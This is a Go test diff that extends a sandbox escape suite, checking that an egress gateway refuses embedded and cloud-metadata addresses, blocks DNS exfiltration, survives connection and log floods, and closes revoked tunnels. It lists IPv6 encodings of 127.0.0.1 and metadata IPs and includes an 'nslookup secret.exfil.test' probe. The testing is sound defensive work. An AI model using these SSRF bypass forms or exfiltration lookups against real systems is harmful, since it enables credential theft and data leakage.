@@ -36,6 +36,7 @@ import (
 
 	"github.com/bottlefile/bottlefile/drivers"
 	"github.com/bottlefile/bottlefile/drivers/docker/dockertest"
+	"github.com/bottlefile/bottlefile/egress"
 )
 
 // escapeLabel marks the containers of the escape suite's outside world,
@@ -145,6 +146,12 @@ func TestEscape(t *testing.T) {
 	t.Run("6b_bottle_gateway_via_proxy", r.bottleGatewayViaProxy)
 	t.Run("7b_other_bottle_via_proxy", r.otherBottleViaProxy)
 	t.Run("6c_host_service_saw_nothing", r.hostSawNothing)
+	t.Run("11_embedded_and_special_addresses", r.embeddedAddresses)
+	t.Run("12_search_domains_never_apply", r.searchDomains)
+	t.Run("13_agent_resolver_never_forwards", r.agentResolver)
+	t.Run("14_idle_and_unread_connections", r.idleConnections)
+	t.Run("15_log_flood", r.logFlood)
+	t.Run("16_revoked_rule_and_new_network", r.revokeAndNewNetwork)
 	t.Logf("suite took %v", time.Since(start).Round(time.Millisecond))
 }
 
@@ -1219,4 +1226,383 @@ func dynamicBinary() string {
 		f.Close()
 	}
 	return ""
+}
+
+// --- Issue 17: a gateway that holds under abuse. ---
+
+// abuseTool builds bench/gatewayabuse statically and copies it into
+// alpha's agent as /tmp/gatewayabuse.
+func (r *escapeRig) abuseTool(t *testing.T) {
+	bin := filepath.Join(t.TempDir(), "gatewayabuse")
+	cmd := exec.Command("go", "build", "-trimpath", "-o", bin, "../../bench/gatewayabuse")
+	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("building bench/gatewayabuse: %v\n%s", err, out)
+	}
+	data, err := os.ReadFile(bin)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	tw := tar.NewWriter(&buf)
+	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "gatewayabuse", Mode: 0o755, Size: int64(len(data)), ModTime: time.Now()})
+	tw.Write(data)
+	tw.Close()
+	if err := r.cli.CopyToContainer(context.Background(), r.alpha.id, "/tmp", &buf, container.CopyToContainerOptions{}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// abuseResult is what bench/gatewayabuse prints.
+type abuseResult struct {
+	Requests, Answers int64
+	Opened            int
+	Closed            int    `json:"closed_by_gateway"`
+	Connect           string `json:"connect_status"`
+}
+
+func (r *escapeRig) abuse(t *testing.T, args ...string) abuseResult {
+	t.Helper()
+	out, code := dockertest.Exec(t, r.cli, r.alpha.id, append([]string{"/tmp/gatewayabuse", "-addr", r.alphaGW.name + ":3128"}, args...)...)
+	var res abuseResult
+	if code != 0 || json.Unmarshal([]byte(strings.TrimSpace(out)), &res) != nil {
+		t.Fatalf("gatewayabuse %v: exit %d: %s", args, code, out)
+	}
+	t.Logf("gatewayabuse %v: %s", args, strings.TrimSpace(out))
+	return res
+}
+
+// gatewayStats is one reading of the gateway container's cgroup.
+func (r *escapeRig) gatewayStats(t *testing.T) container.StatsResponse {
+	t.Helper()
+	resp, err := r.cli.ContainerStatsOneShot(context.Background(), r.alphaGW.id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	var s container.StatsResponse
+	if err := json.NewDecoder(resp.Body).Decode(&s); err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+// wantGatewayIntact fails unless alpha's gateway has its limits and still
+// runs as it did (never restarted, never killed for memory).
+func (r *escapeRig) wantGatewayIntact(t *testing.T, before *container.InspectResponse) *container.InspectResponse {
+	t.Helper()
+	info, err := r.cli.ContainerInspect(context.Background(), r.alphaGW.id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hc := info.HostConfig
+	if hc.Memory == 0 || hc.MemorySwap != hc.Memory || hc.NanoCPUs == 0 || hc.PidsLimit == nil || *hc.PidsLimit == 0 ||
+		!slices.ContainsFunc(hc.Ulimits, func(u *container.Ulimit) bool { return u.Name == "nofile" && u.Hard > 0 }) {
+		t.Errorf("the gateway has no memory, CPU, pids or open-file limit: memory %d swap %d cpus %d pids %v ulimits %v", hc.Memory, hc.MemorySwap, hc.NanoCPUs, hc.PidsLimit, hc.Ulimits)
+	}
+	if hc.LogConfig.Type != "json-file" || hc.LogConfig.Config["max-size"] == "" || hc.LogConfig.Config["max-file"] == "" {
+		t.Errorf("the gateway's log is not rotated: %+v", hc.LogConfig)
+	}
+	if before != nil && (!info.State.Running || info.State.OOMKilled || info.RestartCount != before.RestartCount || info.State.StartedAt != before.State.StartedAt) {
+		t.Errorf("the gateway did not hold: running %v, OOM-killed %v, restarts %d -> %d, started %s -> %s",
+			info.State.Running, info.State.OOMKilled, before.RestartCount, info.RestartCount, before.State.StartedAt, info.State.StartedAt)
+	}
+	return &info
+}
+
+// embeddedAddresses: an allowed name that resolves to an IPv6 form of a
+// forbidden IPv4 address, to a metadata endpoint or to a special-purpose
+// address is refused (the recorder answers v4-/v6- names with the address
+// they spell).
+func (r *escapeRig) embeddedAddresses(t *testing.T) {
+	refused := map[string]string{ // the address -> what the refusal says
+		"64:ff9b::7f00:1":               "a NAT64 form of 127.0.0.1",
+		"64:ff9b:1::7f00:1":             "a local-use NAT64 form of 127.0.0.1",
+		"::ffff:0:7f00:1":               "a SIIT (IPv4-translated) form of 127.0.0.1",
+		"::ffff:0:a9fe:a9fe":            "a SIIT (IPv4-translated) form of 169.254.169.254",
+		"::ffff:7f00:1":                 "a loopback address",
+		"::7f00:1":                      "IPv4-compatible",
+		"2002:7f00:1::1":                "a 6to4 address",
+		"2001:0:4136:e378::1":           "a Teredo address",
+		"2606:4700::5efe:7f00:1":        "an ISATAP form of 127.0.0.1",
+		"169.254.169.254":               "the link-local cloud metadata address",
+		"100.100.100.200":               "the cloud metadata address of Alibaba Cloud",
+		"168.63.129.16":                 "the host endpoint of Azure",
+		"192.0.0.192":                   "the cloud metadata address of Oracle Cloud",
+		"fd00:ec2::254":                 "an instance service address of AWS",
+		"198.18.0.1":                    "a benchmarking address",
+		"192.0.0.8":                     "an IETF protocol assignment address",
+		"192.0.2.1":                     "a documentation address",
+		"198.51.100.1":                  "a documentation address",
+		"203.0.113.1":                   "a documentation address",
+		"2001:db8::1":                   "a documentation address",
+		"100::1":                        "a discard-only address",
+		"64:ff9b::" + hex4(r.outsideGW): "a NAT64 form of " + r.outsideGW.String(),
+	}
+	name := func(a string) string {
+		ip := netip.MustParseAddr(a)
+		if ip.Is4() {
+			return "v4-" + strings.ReplaceAll(a, ".", "-") + ".ip.recorded.test"
+		}
+		b := ip.As16() // every group spelled out: no "::", no dotted tail
+		g := make([]string, 8)
+		for i := range g {
+			g[i] = fmt.Sprintf("%x", uint16(b[2*i])<<8|uint16(b[2*i+1]))
+		}
+		return "v6-" + strings.Join(g, "-") + ".ip.recorded.test"
+	}
+	probes := []probe{{"control: a name for the allowed host's address", connect(r.alphaGW.name, name(r.allowedIP.String())+":8080")}}
+	for a := range refused {
+		probes = append(probes, probe{a, connect(r.alphaGW.name, name(a)+":8080")})
+	}
+	res := r.probeAll(t, r.alpha.id, probes)
+	wantContent(t, res, "control: a name for the allowed host's address", "allowed-host-content")
+	for a, why := range refused {
+		got := res[a].out
+		if !strings.Contains(got, "403") || !strings.Contains(got, why) {
+			t.Errorf("%s (%s): want a 403 saying %q, got %q", a, name(a), why, got)
+		}
+	}
+}
+
+// hex4 is an IPv4 address as the last 32 bits of an IPv6 address.
+func hex4(a netip.Addr) string {
+	b := a.As4()
+	return fmt.Sprintf("%x:%x", uint16(b[0])<<8|uint16(b[1]), uint16(b[2])<<8|uint16(b[3]))
+}
+
+// idleConnections: 3,000 idle connections, then 3,000 that never read
+// their answer, leave a fresh CONNECT answered and the gateway running
+// under its memory limit.
+func (r *escapeRig) idleConnections(t *testing.T) {
+	r.abuseTool(t)
+	before := r.wantGatewayIntact(t, nil)
+	for _, mode := range []string{"-unread=false", "-unread"} {
+		res := r.abuse(t, "-mode", "idle", mode, "-n", "3000", "-hold", "3s", "-connect", "allowed-host:8080")
+		if res.Opened < 2900 {
+			t.Errorf("%s: only %d of 3000 connections opened", mode, res.Opened)
+		}
+		if !strings.Contains(res.Connect, " 200 ") {
+			t.Errorf("%s: with %d connections open, a fresh CONNECT got %q, want 200", mode, res.Opened, res.Connect)
+		}
+		stats := r.gatewayStats(t)
+		limit := before.HostConfig.Memory
+		if limit == 0 || stats.MemoryStats.MaxUsage == 0 || int64(stats.MemoryStats.MaxUsage) >= limit {
+			t.Errorf("%s: the gateway peaked at %d bytes, its limit is %d", mode, stats.MemoryStats.MaxUsage, limit)
+		}
+		t.Logf("%s: gateway memory peak %.1f MiB (limit %.0f MiB), %d of %d closed by the gateway", mode,
+			float64(stats.MemoryStats.MaxUsage)/(1<<20), float64(limit)/(1<<20), res.Closed, res.Opened)
+	}
+	r.wantGatewayIntact(t, before)
+}
+
+// maxFloodLog is the most a 10 s flood from one source may add to the
+// gateway's log: refusal lines are rate-limited per source (20 at once,
+// then 5 a second) and each is at most egress.MaxDecisionLine bytes, so
+// (20 + 5×10) × 2 KiB = 140 KiB, with room for a few more lines.
+const maxFloodLog = 256 << 10
+
+// logFlood: 10 s of 60 KB bad requests keep the gateway's log under
+// maxFloodLog and its CPU under its limit.
+func (r *escapeRig) logFlood(t *testing.T) {
+	r.abuseTool(t)
+	before := r.wantGatewayIntact(t, nil)
+	s0 := r.gatewayStats(t)
+	start := time.Now()
+	since := start.UTC().Format(time.RFC3339Nano)
+	res := r.abuse(t, "-mode", "flood", "-workers", "16", "-duration", "10s", "-size", "60000")
+	elapsed := time.Since(start)
+	s1 := r.gatewayStats(t)
+	if res.Answers < 50 {
+		t.Fatalf("control: the flood got %d answers to %d requests", res.Answers, res.Requests)
+	}
+	time.Sleep(time.Second) // the engine writes the last lines
+	rc, err := r.cli.ContainerLogs(context.Background(), r.alphaGW.id, container.LogsOptions{ShowStdout: true, ShowStderr: true, Since: since})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var log bytes.Buffer
+	stdcopy.StdCopy(&log, &log, rc)
+	rc.Close()
+	lines := strings.Split(strings.TrimSpace(log.String()), "\n")
+	longest, suppressed := 0, 0
+	for _, l := range lines {
+		longest = max(longest, len(l))
+		var d struct{ Suppressed int }
+		if json.Unmarshal([]byte(l), &d) == nil {
+			suppressed += d.Suppressed
+		}
+	}
+	cores := float64(s1.CPUStats.CPUUsage.TotalUsage-s0.CPUStats.CPUUsage.TotalUsage) / float64(elapsed.Nanoseconds())
+	limit := float64(before.HostConfig.NanoCPUs) / 1e9
+	t.Logf("flood: %d requests, %d answered; log +%d bytes in %d lines (longest %d, %d refusals left out); gateway CPU %.2f cores (limit %.1f)",
+		res.Requests, res.Answers, log.Len(), len(lines), longest, suppressed, cores, limit)
+	if log.Len() > maxFloodLog {
+		t.Errorf("the flood added %d bytes to the gateway's log, want at most %d", log.Len(), maxFloodLog)
+	}
+	if longest > egress.MaxDecisionLine {
+		t.Errorf("a log line of %d bytes, want at most %d", longest, egress.MaxDecisionLine)
+	}
+	if limit == 0 || cores > limit*1.1 {
+		t.Errorf("the gateway used %.2f cores, its limit is %.1f", cores, limit)
+	}
+	r.wantGatewayIntact(t, before)
+}
+
+// searchDomains: with search domains in the gateway's resolver
+// configuration (as a host that has some hands down), a lookup of an
+// allowed name that does not exist reaches the recorder as that name only,
+// never with a search domain appended: that would be a lookup of a name
+// the allowlist does not allow.
+func (r *escapeRig) searchDomains(t *testing.T) {
+	info, err := r.cli.ContainerInspect(context.Background(), r.alphaGW.id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	conf, err := os.ReadFile(info.ResolvConfPath)
+	if err != nil {
+		t.Fatalf("reading the gateway's resolv.conf (the engine must be local): %v", err)
+	}
+	with := regexp.MustCompile(`(?m)^search .*\n`).ReplaceAllString(string(conf), "") + "search corp-" + r.run + ".test\n"
+	if err := os.WriteFile(info.ResolvConfPath, []byte(with), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("the gateway's resolv.conf:\n%s", with)
+	// Go's resolver reads its configuration again at most every 5 s.
+	time.Sleep(6 * time.Second)
+	name := "nosuch-" + r.run + ".recorded.test"
+	for range 2 {
+		r.execIn(t, r.alpha.id, viaProxy("http://"+name+":8080/"))
+	}
+	r.waitLog(t, r.recorderID, "query "+name+" ", 10*time.Second) // control: the lookup was made
+	if log := r.logs(t, r.recorderID); strings.Contains(log, name+".corp-"+r.run) {
+		t.Errorf("the gateway looked up %s with a search domain:\n%s", name, log)
+	}
+}
+
+// twin starts a container made like alpha's agent (its image, DNS options
+// and, on net, its place) whose resolver forwards to the recorder, as the
+// agent's own resolver would forward if it forwarded at all.
+func (r *escapeRig) twin(t *testing.T, netName, suffix string) string {
+	ctx := context.Background()
+	agent, err := r.cli.ContainerInspect(ctx, r.alpha.id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	created, err := r.cli.ContainerCreate(ctx,
+		&container.Config{Image: agent.Config.Image, Cmd: []string{"sleep", "600"}, Labels: map[string]string{dockertest.TestLabel: "1", escapeLabel: r.run}},
+		&container.HostConfig{
+			NetworkMode: container.NetworkMode(netName),
+			DNS:         []string{r.recorderIP.String()},
+			DNSSearch:   []string{"corp-" + r.run + ".test"},
+			DNSOptions:  agent.HostConfig.DNSOptions,
+			CapDrop:     agent.HostConfig.CapDrop,
+		}, nil, nil, "bottlefile-escape-"+r.run+"-twin-"+suffix)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := r.cli.ContainerStart(ctx, created.ID, container.StartOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	return created.ID
+}
+
+// agentResolver: a lookup through the resolver an agent uses (the engine's
+// embedded one, on the bottle network) never reaches a DNS server, even
+// one set as its upstream: the recorder is that upstream here, so a lookup
+// forwarded (NXDOMAIN looks just like a timeout to nslookup) is caught.
+func (r *escapeRig) agentResolver(t *testing.T) {
+	secret := "s3cr3t" + randomHex(6)
+	in := r.twin(t, "bf-"+r.lineage[:8]+"-alpha", "in")
+	out := r.twin(t, r.outside, "out")
+	res := r.probeAll(t, in, []probe{
+		{"lookup", fmt.Sprintf("timeout 4 nslookup %s-i.exfil.test", secret)},
+		{"single label", fmt.Sprintf("timeout 4 nslookup %s-j", secret)},
+	})
+	wantBlocked(t, res, "lookup", "")
+	// Control: the same container on a network that is not internal
+	// reaches the recorder through the same embedded resolver.
+	control := "ctl" + randomHex(6) + ".exfil.test"
+	r.execIn(t, out, "timeout 4 nslookup "+control)
+	r.waitLog(t, r.recorderID, control, 10*time.Second)
+	if log := r.logs(t, r.recorderID); strings.Contains(log, secret) {
+		t.Errorf("a lookup from the bottle network reached the recording DNS server:\n%s", log)
+	}
+	t.Logf("probes: %v", res)
+}
+
+// revokeAndNewNetwork: a network made after the gateway (here a plain
+// bridge network, whose gateway address is a new address of the docker
+// host, where the host service answers) is forbidden to it once an apply
+// updates the gateway; and the apply that removes the rule behind an open
+// tunnel closes that tunnel and says so.
+func (r *escapeRig) revokeAndNewNetwork(t *testing.T) {
+	ctx := context.Background()
+	newNet, _ := dockertest.TestNetwork(t, r.cli, map[string]string{escapeLabel: r.run})
+	ninfo, err := r.cli.NetworkInspect(ctx, newNet, network.InspectOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var newGW netip.Addr
+	for _, c := range ninfo.IPAM.Config {
+		if newGW, err = netip.ParseAddr(c.Gateway); err != nil {
+			// The engine takes the subnet's first address when none is named.
+			if p, err := netip.ParsePrefix(c.Subnet); err == nil {
+				newGW = p.Masked().Addr().Next()
+			}
+		}
+	}
+	if !newGW.IsValid() {
+		t.Fatalf("the new network has no gateway address: %+v", ninfo.IPAM)
+	}
+	// Control: the host service answers on the new address.
+	res := r.probeAll(t, r.allowedID, []probe{{"host service on the new network's address", "timeout 3 wget -qO- " + r.hostURL(newGW)}})
+	wantContent(t, res, "host service on the new network's address", "host-service-secret")
+
+	// A tunnel to the allowed host, held open.
+	r.abuseTool(t)
+	r.execIn(t, r.alpha.id, fmt.Sprintf(`rm -f /tmp/tun.out; /tmp/gatewayabuse -mode tunnel -addr %s:3128 -connect allowed-host:8080 -hold 120s >/tmp/tun.out 2>&1 </dev/null &`, r.alphaGW.name))
+	deadline := time.Now().Add(10 * time.Second)
+	for !strings.Contains(r.execIn(t, r.alpha.id, "cat /tmp/tun.out").out, " 200 ") {
+		if time.Now().After(deadline) {
+			t.Fatalf("control: the tunnel did not open: %q", r.execIn(t, r.alpha.id, "cat /tmp/tun.out").out)
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+
+	// The allowlist without allowed-host:8080, with a rule naming the new
+	// address on the host service's port.
+	var allow []string
+	for _, a := range r.allowlist(fmt.Sprintf("%s:%d", newGW, r.host.port)) {
+		if a != "allowed-host:8080" {
+			allow = append(allow, a)
+		}
+	}
+	r.writeConfig(allow)
+	apply := bottlefile(t, r.dir, "apply", "-auto-approve")
+	if apply.code != 0 {
+		t.Fatalf("apply: %s", apply)
+	}
+	if want := "agent.alpha.gateway: closed 1 open tunnel the new allowlist no longer allows"; !strings.Contains(apply.stdout, want) {
+		t.Errorf("apply does not say %q:\n%s", want, apply.stdout)
+	}
+	deadline = time.Now().Add(10 * time.Second)
+	for !strings.Contains(r.execIn(t, r.alpha.id, "cat /tmp/tun.out").out, "closed") {
+		if time.Now().After(deadline) {
+			t.Errorf("the tunnel whose rule was removed is still open")
+			break
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	res = r.probeAll(t, r.alpha.id, []probe{
+		{"via proxy", viaProxy(r.hostURL(newGW))},
+		{"CONNECT", connect(r.alphaGW.name, netip.AddrPortFrom(newGW, uint16(r.host.port)).String())},
+		{"allowed host, its rule removed", connect(r.alphaGW.name, "allowed-host:8080")},
+	})
+	want403(t, res, "via proxy", "host-service-secret")
+	want403(t, res, "CONNECT", "host-service-secret")
+	if got := res["CONNECT"].out; !strings.Contains(got, "a forbidden address") {
+		t.Errorf("CONNECT to the new network's address: want it refused as forbidden, got %q", got)
+	}
+	want403(t, res, "allowed host, its rule removed", "allowed-host-content")
 }
